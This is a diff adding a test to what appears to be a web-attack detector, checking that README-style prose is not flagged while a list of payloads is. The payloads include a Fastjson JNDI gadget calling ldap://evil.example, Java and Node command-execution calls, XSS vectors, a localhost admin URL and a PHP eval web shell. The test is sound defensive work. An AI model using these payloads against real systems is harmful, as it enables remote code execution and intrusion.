@@ -65,3 +65,39 @@ test('an element written in 8-bit form (¼x¾…¼/x¾) is XSS for a page read a
   assert.ok(form('\xbcmarquee\xbeHi\xbc/marquee\xbe').attack);
   assert.equal(form('Add \xbc cup sugar and \xbe cup flour, then \xbc/2 of the butter').attack, false);
 });
+
+test('developer prose that names code (README paragraphs) stays clean; the same code as a payload does not', () => {
+  const prose = [
+    '# Details\n * Dependencies: [@types/node](https://npmjs.com/package/@types/node)',
+    'This package is maintained as part of `@typescript-eslint/parser` and the rest of the tooling.',
+    'This avoids rebuilding an Ajv instance and compiling their schemas at runtime. The\ngenerated module still requires `fast-json-stringify`.',
+    'The boot sequence starts when `.start()` or `.ready()` is called.',
+    'For both `resolve()` and `import()`, you can pass in package names and filenames.',
+    '- `options`: `<Object>` Cache options. Under the bonnet the module uses a small LRU cache for lookups.',
+    '- `options` __\\<object\\>__ - optional options for the resolver, passed on to every keyword it merges',
+    '- [Public Key Import (SPKI)](docs/key/import/functions/importSPKI.md) imports a key from its encoded form in the document',
+    'Then open `http://127.0.0.1:3000` in your browser. The demo lets you upload files and inspect the headers.',
+    'Accepting not just an array (eg. process.argv), but a string or object as well, making things like testing much easier.',
+    'Exactly the same way as node\'s [`spawn`](https://nodejs.org/api/child_process.html) works, with the same arguments.',
+    'Available also for **[PHP](./php/flatted.php)**.',
+    'Set to `true` to ignore all `eval()` calls (which would normally create scopes) in the analysis of the file.',
+  ];
+  for (const p of prose) {
+    const r = inspect({ body: JSON.stringify({ author: 'sam', body: p }), contentType: 'application/json' });
+    assert.equal(r.attack, false, `${p.slice(0, 60)} → ${rules(r)}`);
+  }
+  const payloads = [
+    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a","autoCommit":true}',
+    'Runtime.getRuntime().exec("id")',
+    'new ProcessBuilder("id").start()',
+    '<object data="javascript:alert(1)">',
+    'nice post <svg onload=alert(1)> thanks for writing it up',
+    'http://127.0.0.1:8080/admin',
+    'process.mainModule.require("child_process").execSync("id")',
+    '[php]echo 1;[/php]',
+    'eval($_POST[1])',
+  ];
+  for (const p of payloads) {
+    for (const r of everywhere(p)) assert.ok(inspect(r).attack, `${p} ${JSON.stringify(r).slice(0, 50)} → ${rules(inspect(r))}`);
+  }
+});
